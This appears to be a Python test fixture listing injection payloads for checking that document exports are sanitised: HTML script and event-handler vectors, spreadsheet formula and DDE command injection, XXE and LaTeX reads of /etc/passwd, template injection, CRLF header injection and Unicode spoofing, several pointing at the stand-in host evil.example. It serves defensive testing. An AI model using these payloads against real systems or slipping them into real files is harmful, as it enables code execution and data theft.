"""Words that somebody may write to make an export do something: markup, formulas, code for each format."""

_HTML = (
    "<script>window.hit=1</script>",
    "<img src=x onerror=window.hit=1>",
    "<svg onload=window.hit=1>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<a href=javascript:window.hit=1>x</a>",
    "<body onload=window.hit=1>",
    "<details open ontoggle=window.hit=1>",
    "<video><source onerror=window.hit=1></video>",
    "<form action=https://evil.example><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<object data=data:text/html,x></object>",
    "<math><mi xlink:href=javascript:window.hit=1>x</mi></math>",
    "<template><script>window.hit=1</script></template>",
    "</title></textarea></style></script><script>window.hit=1</script>",
    "<!-- --><script>window.hit=1</script>",
    "&lt;script&gt;window.hit=1&lt;/script&gt; &#60;b&#62;",
    "\" onmouseover=window.hit=1 x=\"' autofocus onfocus=window.hit=1 '",
)
_FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://evil.example","x")',
    "=cmd|' /C calc'!A0",
    "+SUM(A1:A2)",
    "-2+3",
    "@SUM(1)",
    '=WEBSERVICE("https://evil.example")',
    "{=1+1}",
    "=DDE('x';'y';'z')",
    "https://evil.example/x",
)
_MARKDOWN = (
    "[x](javascript:window.hit=1)",
    "![x](https://evil.example/x.png)",
    "<https://evil.example>",
    "[x]: https://evil.example",
    "# heading **bold** _italic_ ~~gone~~",
    "```html\n<script>window.hit=1</script>\n```",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "- [ ] task\n    indented code",
    "www.evil.example and https://evil.example/a_b_c",
    "> quote\n\n---\n\n1. list",
)
_SETTING = (
    '#read("/etc/passwd")',
    '$x^2$ #eval("1") @label <label>',
    '#link("https://evil.example")[x] #include "x.typ"',
    "\\input{/etc/passwd} \\write18{id}",
    "/* x */ // x ``` ` = x",
)
_XML = (
    "]]><!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>&a;",
    "</w:t></w:r><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r>",
    "<?xml version='1.0'?><?mso-application progid='Excel.Sheet'?>",
    "<w:hyperlink r:id='rId1'/> _x0041_ &#x0;",
    "{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe }",
)
_DATA = (
    '</script><script>window.hit=1</script>{"@context": "https://evil.example"}',
    '"}],"@id":"javascript:window.hit=1","x":[{"',
    "{{ 7 * 7 }}{% import os %}${7*7}#{7*7}",
    "javascript:window.hit=1",
    "data:text/html,<script>window.hit=1</script>",
)
_SIGNS = (
    "\x1b]8;;https://evil.example\x07x\x1b[2J",
    "a\u202egnp.exe\u202c \u2066x",
    "a\x01b\x0bc\ufffed\u2028e",
    "\r\nSet-Cookie: x\r\n\r\n<b>",
    "\t=1\u00a0\u3000＝1",
)
BASES = (*_HTML, *_FORMULAS, *_MARKDOWN, *_SETTING, *_XML, *_DATA, *_SIGNS)
PAYLOADS = tuple(
    dict.fromkeys(
        shape
        for base in BASES
        for shape in (base, f"It said {base} today.", f'">{base}', f"\n{base.upper()}")
        if shape.strip()
    )
)
